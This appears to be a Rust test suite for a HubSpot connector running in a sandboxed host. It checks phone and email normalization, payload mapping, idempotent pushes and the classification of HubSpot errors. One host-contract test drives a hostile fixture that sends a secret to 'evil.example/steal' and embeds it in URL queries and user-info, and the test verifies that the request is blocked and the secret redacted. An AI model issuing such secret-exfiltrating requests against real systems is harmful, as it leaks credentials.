//! Contract tests through the host: each export of the HubSpot connector
//! (`describe`, `normalize`, `map-fields`, `push`, `classify-error`) called
//! directly on a `ConnectorInstance`, one fresh instance per unit of work as
//! the host runs them; and the generic host contract (audit annotations, a
//! secret-free HTTP journal, fresh instances) shown with the hostile fixture,
//! which stands for any connector.

use serde_json::{Value as Json, json};
use switchboard_hubspot_sim::{SimConfig, SimHandle, Simulator};
use switchboard_runtime::types::{
    CrmRef, CrmResponse, ErrorClass, FieldError, LimitScope, Payload, PushContext, PushError,
    PushOutcome, PushStatus, RateLimit, RateLimited, Record, RequestCost, Value,
};
use switchboard_runtime::{ConnectorInstance, Deployment, GuestFault, WorkUnit, idempotency_key};
use switchboard_storage::Scope;
use switchboard_tests::{TestHost, connector_wasm, guest_wasm, record};

/// The HubSpot token the simulator accepts.
const TOKEN: &str = "pat-contract-token-91c2";
/// A base URL for deployments whose test sends no HTTP.
const NO_SIM: &str = "http://127.0.0.1:9";
/// A secret given to the hostile fixture's deployment.
const HOSTILE_SECRET: &str = "hostile-secret-4c1e7d";

// ---------------------------------------------------------------- set-up

/// The HubSpot connector deployed for `tenant`, talking to `base_url`,
/// with `default-region` set to `region` when given.
async fn hubspot(
    host: &TestHost,
    tenant: &str,
    base_url: &str,
    region: Option<&str>,
) -> Deployment {
    let secret = host.write_secret(&format!("{tenant}-token"), TOKEN);
    let manifest = switchboard_tests::hubspot_manifest(base_url, &secret, region);
    host.deploy(tenant, &connector_wasm("hubspot"), &manifest)
        .await
}

async fn simulator() -> SimHandle {
    Simulator::start(SimConfig {
        tokens: vec![TOKEN.into()],
        search_per_second: 1000,
        ..SimConfig::default()
    })
    .await
    .expect("start simulator")
}

/// The hostile fixture deployed for `tenant`, with one secret and loopback allowed.
async fn hostile(host: &TestHost, tenant: &str) -> Deployment {
    let secret = host.write_secret("hostile-api-key", HOSTILE_SECRET);
    let manifest = format!(
        r#"
[limits]
memory_mb = 64
time_budget_ms = 500
wall_timeout_ms = 10000

[http]
allowed_hosts = ["http://127.0.0.1:*"]
allow_private_addresses = true
allow_secrets_over_http = true
request_timeout_ms = 5000

[config]
greeting = "hello"

[secrets]
api-key = {{ file = "{secret}" }}
"#
    );
    host.deploy(tenant, &guest_wasm("hostile"), &manifest).await
}

/// A fresh instance for one unit of work, as the host makes for every attempt.
async fn fresh(dep: &Deployment, record_id: &str) -> ConnectorInstance {
    dep.instantiate(WorkUnit {
        record_id: record_id.into(),
        trace_id: format!("trace-{record_id}"),
    })
    .await
    .expect("instantiate")
}

/// The push context the host builds for `record_id` on attempt `attempt`.
fn push_ctx(dep: &Deployment, record_id: &str, attempt: u32) -> PushContext {
    PushContext {
        tenant: dep.tenant().to_string(),
        idempotency_key: idempotency_key(dep.tenant(), record_id, dep.connector()),
        trace_id: format!("trace-{record_id}-{attempt}"),
        attempt,
    }
}

fn call(id: &str, phone: &str) -> Record {
    record(json!({"id": id, "kind": "call", "fields": {
        "phone": phone,
        "started-at": "2026-11-24T09:30:00+01:00",
        "duration-seconds": 125,
        "direction": "outbound",
        "title": "Renewal call",
    }}))
}

fn field<'a>(rec: &'a Record, name: &str) -> &'a Value {
    match rec.fields.iter().find(|f| f.name == name) {
        Some(f) => &f.value,
        None => panic!(
            "record {:?} has no field {name:?}: {:?}",
            rec.id, rec.fields
        ),
    }
}

async fn normalized(dep: &Deployment, rec: &Record) -> Record {
    match fresh(dep, &rec.id).await.normalize(rec).await {
        Ok(Ok(out)) => out,
        other => panic!("normalize {:?}: {other:?}", rec.id),
    }
}

async fn normalize_errors(dep: &Deployment, rec: &Record) -> Vec<FieldError> {
    match fresh(dep, &rec.id).await.normalize(rec).await {
        Ok(Err(errors)) => errors,
        other => panic!("normalize {:?} should refuse the record: {other:?}", rec.id),
    }
}

fn sorted_fields(errors: &[FieldError]) -> Vec<&str> {
    let mut names: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
    names.sort_unstable();
    names
}

fn reason_of<'a>(errors: &'a [FieldError], name: &str) -> &'a str {
    match errors.iter().find(|e| e.field == name) {
        Some(e) => &e.reason,
        None => panic!("no error names {name:?}: {errors:?}"),
    }
}

/// Runs normalize, map-fields and push in one instance, as one attempt does.
async fn push_unit(
    inst: &mut ConnectorInstance,
    ctx: &PushContext,
    rec: &Record,
) -> Result<PushOutcome, PushError> {
    let rec = inst
        .normalize(rec)
        .await
        .expect("no fault")
        .expect("valid record");
    let payload = inst
        .map_fields(&rec)
        .await
        .expect("no fault")
        .expect("mappable record");
    inst.push(ctx, &rec, &payload).await.expect("no fault")
}

// ---------------------------------------------------------------- describe

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn describe_reports_name_kinds_hosts_secrets_and_limits() {
    let host = TestHost::new();
    let dep = hubspot(&host, "acme", NO_SIM, Some("GB")).await;
    let d = fresh(&dep, "describe")
        .await
        .describe()
        .await
        .expect("describe");

    assert_eq!(d.name, "hubspot");
    assert_eq!(d.version, "0.3.0");
    assert_eq!(d.crm, "HubSpot");
    assert_eq!(d.record_kinds, ["call", "contact"]);
    assert_eq!(d.outbound_hosts, ["https://api.hubapi.com"]);
    assert_eq!(d.config_keys, ["base-url", "default-region"]);
    assert_eq!(d.secret_names, ["hubspot-token"]);
    assert_eq!(
        d.owned_fields,
        [
            "hs_call_title",
            "hs_call_body",
            "hs_call_duration",
            "hs_call_direction",
            "hs_call_status",
            "hs_call_from_number",
            "hs_call_to_number",
            "hs_call_recording_url",
        ]
    );
    let search = "/crm/v3/objects/contacts/search";
    let limit =
        |name: &str, tokens: u32, window_ms: u64, scope, search_cost: Option<u32>, default_cost| {
            RateLimit {
                name: name.into(),
                tokens,
                window_ms,
                scope,
                costs: search_cost
                    .map(|cost| RequestCost {
                        method: "POST".into(),
                        path_prefix: search.into(),
                        cost,
                    })
                    .into_iter()
                    .collect(),
                default_cost,
            }
        };
    assert_eq!(
        d.rate_limits,
        [
            // Search is exempt from the ten-secondly window and counted on its own.
            limit("ten-secondly", 190, 10_000, LimitScope::Burst, Some(0), 1),
            limit("daily", 650_000, 86_400_000, LimitScope::Daily, None, 1),
            limit("search", 4, 1_000, LimitScope::Burst, Some(1), 0),
        ]
    );
    // The same answer the host got when it loaded the component.
    assert_eq!(&d, dep.descriptor());
}

// ---------------------------------------------------------------- normalize

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn normalize_canonicalizes_phones_emails_and_timestamps() {
    let host = TestHost::new();
    let gb = hubspot(&host, "acme-gb", NO_SIM, Some("GB")).await;

    for (i, typed) in [
        "+44 7911 123456",
        "07911123456",
        "44-7911-123456",
        "(07911) 123 456",
        "+447911123456",
    ]
    .into_iter()
    .enumerate()
    {
        let out = normalized(&gb, &call(&format!("call-{i}"), typed)).await;
        assert_eq!(
            field(&out, "phone"),
            &Value::Text("+447911123456".into()),
            "{typed:?}"
        );
    }

    let rec = record(json!({"id": "call-x", "kind": "call", "fields": {
        "phone": "07911 123456",
        "email": "  Ann@Example.COM ",
        "started-at": "2026-11-24T09:30:00+01:00",
        "crm-only-note": "kept as is",
    }}));
    let out = normalized(&gb, &rec).await;
    assert_eq!(field(&out, "email"), &Value::Text("ann@example.com".into()));
    assert_eq!(
        field(&out, "started-at"),
        &Value::Timestamp("2026-11-24T08:30:00Z".into())
    );
    assert_eq!(
        field(&out, "crm-only-note"),
        &Value::Text("kept as is".into()),
        "fields the connector does not know are kept"
    );

    // Unix milliseconds are read as UTC too.
    let ms = record(json!({"id": "call-ms", "kind": "call", "fields": {
        "phone": "+447911123456", "started-at": 1_795_509_000_000_i64,
    }}));
    assert_eq!(
        field(&normalized(&gb, &ms).await, "started-at"),
        &Value::Timestamp("2026-11-24T08:30:00Z".into())
    );

    // The region came from the deployment's config: without it (default
    // US) the national British spelling is not a valid number.
    let us = hubspot(&host, "acme-us", NO_SIM, None).await;
    let errors = normalize_errors(&us, &call("call-us", "07911123456")).await;
    assert_eq!(sorted_fields(&errors), ["phone"], "{errors:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn normalize_names_every_invalid_field() {
    let host = TestHost::new();
    let dep = hubspot(&host, "acme", NO_SIM, Some("GB")).await;

    let bad = record(json!({"id": "bad-1", "kind": "call", "fields": {
        "phone": "call me maybe",
        "from-number": "12",
        "email": "ann at example",
        "started-at": "yesterday",
        "duration-seconds": -5,
        "direction": "sideways",
        "recording-url": "ftp://files.example/1.mp3",
        "title": "fine",
    }}));
    let errors = normalize_errors(&dep, &bad).await;
    assert_eq!(
        sorted_fields(&errors),
        [
            "direction",
            "duration-seconds",
            "email",
            "from-number",
            "phone",
            "recording-url",
            "started-at",
        ],
        "one error per bad field, none for good ones: {errors:?}"
    );
    for (name, quoted) in [
        ("phone", "call me maybe"),
        ("from-number", "12"),
        ("email", "ann at example"),
        ("started-at", "yesterday"),
        ("duration-seconds", "-5"),
        ("direction", "sideways"),
        ("recording-url", "ftp://files.example/1.mp3"),
    ] {
        let reason = reason_of(&errors, name);
        assert!(
            reason.contains(quoted),
            "{name}: reason {reason:?} should quote {quoted:?}"
        );
    }

    // Missing required fields are named too.
    let empty = record(json!({"id": "bad-2", "kind": "call", "fields": {"notes": "hi"}}));
    let errors = normalize_errors(&dep, &empty).await;
    assert_eq!(sorted_fields(&errors), ["phone", "started-at"]);
    assert!(reason_of(&errors, "started-at").contains("required"));

    // A kind the connector does not accept is about the whole record.
    let deal = record(json!({"id": "bad-3", "kind": "deal", "fields": {}}));
    let errors = normalize_errors(&dep, &deal).await;
    assert_eq!(sorted_fields(&errors), [""]);
    assert!(errors[0].reason.contains("\"deal\""), "{errors:?}");
}

// ---------------------------------------------------------------- map-fields

fn properties(payload: &Payload) -> Json {
    let body: Json = serde_json::from_str(&payload.body).expect("payload body is JSON");
    body.get("properties")
        .cloned()
        .unwrap_or_else(|| panic!("no \"properties\" in {body}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn map_fields_builds_the_hubspot_call_payload() {
    let host = TestHost::new();
    let dep = hubspot(&host, "acme", NO_SIM, Some("GB")).await;

    let rec = record(json!({"id": "call-1", "kind": "call", "fields": {
        "phone": "+44 7911 123456",
        "started-at": "2026-11-24T09:30:00+01:00",
        "duration-seconds": 125,
        "direction": "Outbound",
        "title": "  Renewal call ",
        "notes": "Discussed the renewal",
        "status": "no answer",
        "from-number": "020 7946 0958",
        "recording-url": "https://rec.example/1.mp3",
    }}));
    let mut inst = fresh(&dep, "call-1").await;
    let norm = inst
        .normalize(&rec)
        .await
        .expect("no fault")
        .expect("valid");
    let payload = inst
        .map_fields(&norm)
        .await
        .expect("no fault")
        .expect("mapped");
    assert_eq!(payload.object, "calls");
    assert_eq!(
        properties(&payload),
        json!({
            "hs_timestamp": "2026-11-24T08:30:00Z",
            "hs_call_duration": "125000",
            "hs_call_direction": "OUTBOUND",
            "hs_call_title": "Renewal call",
            "hs_call_body": "Discussed the renewal",
            "hs_call_status": "NO_ANSWER",
            "hs_call_from_number": "+442079460958",
            "hs_call_recording_url": "https://rec.example/1.mp3",
        })
    );

    let contact = record(json!({"id": "contact-1", "kind": "contact", "fields": {
        "phone": "07911 123456",
        "email": "Ann@Example.com",
        "first-name": " Ann ",
        "last-name": "Lee",
        "company": "Acme",
    }}));
    let mut inst = fresh(&dep, "contact-1").await;
    let norm = inst
        .normalize(&contact)
        .await
        .expect("no fault")
        .expect("valid");
    let payload = inst
        .map_fields(&norm)
        .await
        .expect("no fault")
        .expect("mapped");
    assert_eq!(payload.object, "contacts");
    assert_eq!(
        properties(&payload),
        json!({
            "phone": "+447911123456",
            "email": "ann@example.com",
            "firstname": "Ann",
            "lastname": "Lee",
            "company": "Acme",
        })
    );

    // map-fields names the field it cannot map, like normalize.
    let undated =
        record(json!({"id": "call-2", "kind": "call", "fields": {"phone": "+447911123456"}}));
    let errors = fresh(&dep, "call-2")
        .await
        .map_fields(&undated)
        .await
        .expect("no fault")
        .expect_err("a call without started-at cannot be mapped");
    assert_eq!(sorted_fields(&errors), ["started-at"]);
}

// ---------------------------------------------------------------- push

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn push_returns_created_then_already_present() {
    let sim = simulator().await;
    let host = TestHost::new();
    let dep = hubspot(&host, "acme", &sim.base_url(), Some("GB")).await;
    let rec = call("call-1", "07911 123456");

    let first_ctx = push_ctx(&dep, "call-1", 1);
    let mut first = fresh(&dep, "call-1").await;
    let created = push_unit(&mut first, &first_ctx, &rec)
        .await
        .expect("pushed");
    let snap = sim.snapshot();
    assert_eq!(snap.contacts.len(), 1);
    assert_eq!(snap.calls.len(), 1);
    let (contact_id, call_id) = (snap.contacts[0].id.clone(), snap.calls[0].id.clone());
    let contact = CrmRef {
        object: "contacts".into(),
        id: contact_id.clone(),
    };
    let the_call = CrmRef {
        object: "calls".into(),
        id: call_id.clone(),
    };
    assert_eq!(created.status, PushStatus::Created);
    assert_eq!(created.primary, the_call);
    assert_eq!(created.related, std::slice::from_ref(&contact));
    let effects: Vec<(&str, &CrmRef)> = created
        .effects
        .iter()
        .map(|e| (e.action.as_str(), &e.target))
        .collect();
    assert_eq!(
        effects,
        [("create", &contact), ("create", &the_call)],
        "side effects in order, for later compensation"
    );

    let journal = first.journal();
    assert_eq!(
        journal.annotations,
        [
            ("contact".to_string(), format!("created {contact_id}")),
            ("call".to_string(), format!("created {call_id}")),
        ]
    );
    let base = sim.base_url();
    let requests: Vec<&str> = journal.http.iter().map(|h| h.request.as_str()).collect();
    let (link, writes) = requests.split_last().expect("requests were sent");
    assert!(
        writes
            .iter()
            .all(|r| r.starts_with(&format!("POST {base}/crm/v3/objects/"))),
        "{requests:?}"
    );
    assert!(
        link.starts_with(&format!(
            "PUT {base}/crm/v4/objects/calls/{call_id}/associations/default/contacts/{contact_id} "
        )),
        "linking the call to its contact is the last exchange: {requests:?}"
    );
    assert_eq!(journal.http.last().map(|h| h.result.clone()), Some(Ok(200)));
    let kept = serde_json::to_string(journal).expect("journal json");
    assert!(!kept.contains(TOKEN), "the token leaked into the journal");

    // The call id is durable in the tenant's state under the idempotency key.
    let state = host.runtime.storage().state(&Scope::new("acme", "hubspot"));
    let stored = state
        .get(&format!("call:{}", first_ctx.idempotency_key))
        .expect("state read");
    assert_eq!(stored.as_deref(), Some(call_id.as_bytes()));

    // A retry of the same record in a fresh instance: already present, no HTTP.
    let mut second = fresh(&dep, "call-1").await;
    let again = push_unit(&mut second, &push_ctx(&dep, "call-1", 2), &rec)
        .await
        .expect("pushed");
    assert_eq!(again.status, PushStatus::AlreadyPresent);
    assert_eq!(again.primary, the_call);
    assert_eq!(again.related, [contact]);
    assert!(again.effects.is_empty(), "a replay changes nothing");
    assert!(
        second.journal().http.is_empty(),
        "{:?}",
        second.journal().http
    );
    assert_eq!(sim.snapshot().calls.len(), 1);
}

// ---------------------------------------------------------------- classify-error

fn response(status: u16, headers: &[(&str, &str)], body: &str) -> CrmResponse {
    CrmResponse {
        status,
        headers: headers
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        body: body.as_bytes().to_vec(),
    }
}

async fn classify(dep: &Deployment, resp: &CrmResponse) -> ErrorClass {
    fresh(dep, "classify")
        .await
        .classify_error(resp)
        .await
        .expect("no fault")
}

fn burst(after: Option<u64>, policy: &str) -> ErrorClass {
    ErrorClass::RateLimited(RateLimited {
        retry_after_ms: after,
        scope: LimitScope::Burst,
        policy: policy.into(),
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn classify_error_reads_hubspots_real_bodies() {
    let host = TestHost::new();
    let dep = hubspot(&host, "acme", NO_SIM, Some("GB")).await;
    let corr = r#""correlationId":"c93e06a4-6b1d-4b8e-9a7c-3f0d2f1c9e11""#;

    // 401, expired OAuth token.
    let body = format!(
        r#"{{"status":"error","message":"The OAuth token used to make this call expired 7 second(s) ago.",{corr},"category":"EXPIRED_AUTHENTICATION"}}"#
    );
    match classify(&dep, &response(401, &[], &body)).await {
        ErrorClass::Auth(r) => {
            assert!(
                r.starts_with("expired token (EXPIRED_AUTHENTICATION)"),
                "{r}"
            );
            assert!(r.contains("expired 7 second(s) ago"), "{r}");
            assert!(r.contains("c93e06a4-6b1d-4b8e-9a7c-3f0d2f1c9e11"), "{r}");
        }
        other => panic!("401 expired: {other:?}"),
    }

    // 401, bad or missing token.
    let body = format!(
        r#"{{"status":"error","message":"Authentication credentials not found. This API supports OAuth 2.0 authentication and you can find more details at https://developers.hubspot.com/docs/methods/auth/oauth-overview",{corr},"category":"INVALID_AUTHENTICATION"}}"#
    );
    match classify(&dep, &response(401, &[], &body)).await {
        ErrorClass::Auth(r) => assert!(
            r.starts_with("invalid or missing token (INVALID_AUTHENTICATION)"),
            "{r}"
        ),
        other => panic!("401 invalid: {other:?}"),
    }

    // 403, missing scopes: the scopes HubSpot names are in the reason.
    let body = format!(
        r#"{{"status":"error","message":"This app hasn't been granted all required scopes to make this call. Read more about required scopes here: https://developers.hubspot.com/scopes.",{corr},"errors":[{{"message":"One or more of the following scopes are required.","context":{{"requiredScopes":["contacts"]}}}}],"links":{{"scopes":"https://developers.hubspot.com/scopes"}},"category":"MISSING_SCOPES"}}"#
    );
    match classify(&dep, &response(403, &[], &body)).await {
        ErrorClass::Permission(r) => {
            assert!(r.contains(r#"["contacts"]"#), "{r}");
            assert!(r.contains("MISSING_SCOPES"), "{r}");
        }
        other => panic!("403: {other:?}"),
    }
    let granular = body
        .replace("requiredScopes", "requiredGranularScopes")
        .replace(r#"["contacts"]"#, r#"["crm.objects.contacts.write"]"#);
    match classify(&dep, &response(403, &[], &granular)).await {
        ErrorClass::Permission(r) => assert!(r.contains("crm.objects.contacts.write"), "{r}"),
        other => panic!("403 granular: {other:?}"),
    }

    // 404, not found or archived.
    let body = format!(
        r#"{{"status":"error","message":"resource not found",{corr},"category":"OBJECT_NOT_FOUND"}}"#
    );
    assert_eq!(
        classify(&dep, &response(404, &[], &body)).await,
        ErrorClass::NotFound("OBJECT_NOT_FOUND: resource not found".into())
    );

    // 400, a property that no longer exists (`field-removed`): the v1
    // capture's message list...
    let body = format!(
        r#"{{"status":"error","message":"Property values were not valid: [{{\"isValid\":false,\"message\":\"Property \\\"hs_call_title\\\" does not exist\",\"error\":\"PROPERTY_DOESNT_EXIST\",\"name\":\"hs_call_title\"}}]",{corr},"category":"VALIDATION_ERROR"}}"#
    );
    match classify(&dep, &response(400, &[], &body)).await {
        ErrorClass::FieldRemoved(f) => {
            assert_eq!(f.field, "hs_call_title");
            assert!(f.reason.contains("does not exist"), "{}", f.reason);
        }
        other => panic!("400 v1: {other:?}"),
    }
    // ...and the v3 layout with `errors[].context.propertyName`.
    let body = format!(
        r#"{{"status":"error","message":"Property values were not valid","errors":[{{"message":"Property \"hs_call_body\" does not exist","code":"PROPERTY_DOESNT_EXIST","context":{{"propertyName":["hs_call_body"]}}}}],{corr},"category":"VALIDATION_ERROR"}}"#
    );
    assert_eq!(
        classify(&dep, &response(400, &[], &body)).await,
        ErrorClass::FieldRemoved(FieldError {
            field: "hs_call_body".into(),
            reason: r#"Property "hs_call_body" does not exist"#.into(),
        })
    );

    // 409, duplicate: the existing id is only in the message.
    let body = format!(
        r#"{{"status":"error","message":"Contact already exists. Existing ID: 37765128953",{corr},"category":"CONFLICT"}}"#
    );
    assert_eq!(
        classify(&dep, &response(409, &[], &body)).await,
        ErrorClass::Duplicate(Some("37765128953".into()))
    );

    // 429, the ten-secondly burst limit, with and without Retry-After.
    let body = r#"{"status":"error","message":"You have reached your ten_secondly_rolling limit.","errorType":"RATE_LIMIT","correlationId":"c93e06a4-6b1d-4b8e-9a7c-3f0d2f1c9e11","policyName":"TEN_SECONDLY_ROLLING","groupName":"publicapi:hapikey-api-calls-ten-secondly:6748263"}"#;
    assert_eq!(
        classify(&dep, &response(429, &[("retry-after", "2")], body)).await,
        burst(Some(2000), "TEN_SECONDLY_ROLLING")
    );
    assert_eq!(
        classify(&dep, &response(429, &[], body)).await,
        burst(Some(10_000), "TEN_SECONDLY_ROLLING"),
        "without Retry-After, wait one whole window"
    );

    // 429, the daily quota.
    let body = r#"{"status":"error","message":"You have reached your daily limit.","errorType":"RATE_LIMIT","correlationId":"c93e06a4-6b1d-4b8e-9a7c-3f0d2f1c9e11","policyName":"DAILY","requestId":"9a1f"}"#;
    assert_eq!(
        classify(&dep, &response(429, &[], body)).await,
        ErrorClass::RateLimited(RateLimited {
            retry_after_ms: None,
            scope: LimitScope::Daily,
            policy: "DAILY".into(),
        })
    );

    // 500 during maintenance, and 477 migration in progress: transient.
    let body = format!(
        r#"{{"status":"error","message":"internal error",{corr},"category":"INTERNAL_ERROR"}}"#
    );
    assert_eq!(
        classify(&dep, &response(500, &[], &body)).await,
        ErrorClass::Transient(None)
    );
    assert_eq!(
        classify(
            &dep,
            &response(
                477,
                &[("retry-after", "3")],
                r#"{"status":"error","message":"Migration in progress"}"#
            )
        )
        .await,
        ErrorClass::Transient(Some(3000))
    );

    // Bodies that are not JSON at all.
    let html = "<html><body><h1>502 Bad Gateway</h1></body></html>";
    assert_eq!(
        classify(&dep, &response(502, &[("content-type", "text/html")], html)).await,
        ErrorClass::Transient(None)
    );
    assert_eq!(
        classify(&dep, &response(429, &[], "Too Many Requests")).await,
        burst(None, "unknown")
    );
    match classify(&dep, &response(418, &[], "I'm a teapot")).await {
        ErrorClass::Permanent(r) => {
            assert!(r.starts_with("status 418"), "{r}");
            assert!(r.contains("I'm a teapot"), "{r}");
        }
        other => panic!("418 text: {other:?}"),
    }
}

// ---------------------------------------------------------------- instances

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_unit_gets_a_fresh_instance() {
    // Guest memory is per instance: a trap kills its own instance only.
    let host = TestHost::new();
    let dep = hostile(&host, "acme").await;
    let echo = record(json!({"id": "echo-1", "kind": "echo", "fields": {"x": 1}}));
    let trap = record(json!({"id": "trap-1", "kind": "trap", "fields": {}}));

    let mut broken = fresh(&dep, "trap-1").await;
    match broken.normalize(&trap).await {
        Err(GuestFault::Trap(_)) => {}
        other => panic!("expected a trap, got {other:?}"),
    }
    assert!(
        matches!(broken.normalize(&echo).await, Err(GuestFault::Trap(_))),
        "a trapped instance is never entered again"
    );
    // A fresh instance, created while the broken one is still alive, is untouched.
    let mut next = fresh(&dep, "echo-1").await;
    assert_eq!(
        next.normalize(&echo).await.expect("no fault"),
        Ok(echo.clone())
    );
    drop(broken);

    // State is not guest memory: what one instance writes, the next reads.
    let sim = simulator().await;
    let dep = hubspot(&host, "acme", &sim.base_url(), Some("GB")).await;
    let rec = call("call-1", "+44 7911 123456");
    let ctx = push_ctx(&dep, "call-1", 1);
    let mut writer = fresh(&dep, "call-1").await;
    let created = push_unit(&mut writer, &ctx, &rec).await.expect("pushed");
    assert_eq!(created.status, PushStatus::Created);
    drop(writer);

    let mut reader = fresh(&dep, "call-1").await;
    let replay = push_unit(&mut reader, &ctx, &rec).await.expect("pushed");
    assert_eq!(replay.status, PushStatus::AlreadyPresent);
    assert_eq!(replay.primary, created.primary);
    assert!(
        reader.journal().http.is_empty(),
        "the reader knew from state alone"
    );
    assert_eq!(
        reader.journal().annotations,
        [(
            "call".to_string(),
            format!("already created {} (idempotent replay)", created.primary.id)
        )],
        "each instance starts with an empty journal"
    );

    // State is per tenant: another tenant's instance does not see it.
    let other = hubspot(&host, "globex", &sim.base_url(), Some("GB")).await;
    let mut stranger = fresh(&other, "call-1").await;
    let theirs = push_unit(&mut stranger, &push_ctx(&other, "call-1", 1), &rec)
        .await
        .expect("pushed");
    assert_eq!(theirs.status, PushStatus::Created);
    assert_ne!(theirs.primary, created.primary);
}

// ---------------------------------------------------------------- any connector

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn any_connector_gets_audit_annotations_and_a_secret_free_http_journal() {
    let sim = simulator().await;
    let host = TestHost::new();
    let dep = hostile(&host, "acme").await;

    // Annotations land in the unit's journal, known secret values redacted.
    let id = format!("rec-{HOSTILE_SECRET}");
    let echo = record(json!({"id": id, "kind": "echo", "fields": {}}));
    let mut inst = fresh(&dep, &id).await;
    let payload = Payload {
        object: "echo".into(),
        body: "{}".into(),
    };
    let out = inst
        .push(&push_ctx(&dep, &id, 1), &echo, &payload)
        .await
        .expect("no fault")
        .expect("pushed");
    assert_eq!(out.status, PushStatus::Created);
    assert_eq!(
        inst.journal().annotations,
        [("echo".to_string(), "rec-[redacted]".to_string())]
    );

    // Every exchange is journaled: method, URL without query or user
    // info, body size, and the status or the error; never the secret.
    let base = sim.base_url();
    let fetch =
        |url: String| record(json!({"id": "fetch-1", "kind": "fetch", "fields": {"url": url}}));
    let cases = [
        (
            fetch(format!(
                "{base}/crm/v3/objects/contacts?hapikey={HOSTILE_SECRET}"
            )),
            format!("GET {base}/crm/v3/objects/contacts (0 bytes)"),
            true,
        ),
        (
            fetch(base.replace("http://", &format!("http://user:{HOSTILE_SECRET}@")) + "/x"),
            format!("GET {base}/x (0 bytes)"),
            false,
        ),
        (
            fetch(format!("https://evil.example/steal?k={HOSTILE_SECRET}")),
            "GET https://evil.example/steal (0 bytes)".to_string(),
            false,
        ),
    ];
    for (rec, summary, answered) in cases {
        let mut inst = fresh(&dep, "fetch-1").await;
        let result = inst
            .push(&push_ctx(&dep, "fetch-1", 1), &rec, &payload)
            .await
            .expect("no fault");
        let journal = inst.journal();
        assert_eq!(journal.http.len(), 1, "{:?}", journal.http);
        let exchange = &journal.http[0];
        assert_eq!(exchange.request, summary);
        match (&exchange.result, result) {
            (Ok(status), Ok(out)) if answered => assert_eq!(out.primary.id, status.to_string()),
            (Err(text), Err(PushError::Classified(ErrorClass::Permanent(_)))) if !answered => {
                assert!(!text.is_empty())
            }
            (journaled, returned) => {
                panic!("{summary}: journaled {journaled:?}, returned {returned:?}")
            }
        }
        let kept = serde_json::to_string(journal).expect("journal json");
        assert!(!kept.contains(HOSTILE_SECRET), "secret in journal: {kept}");
    }
}
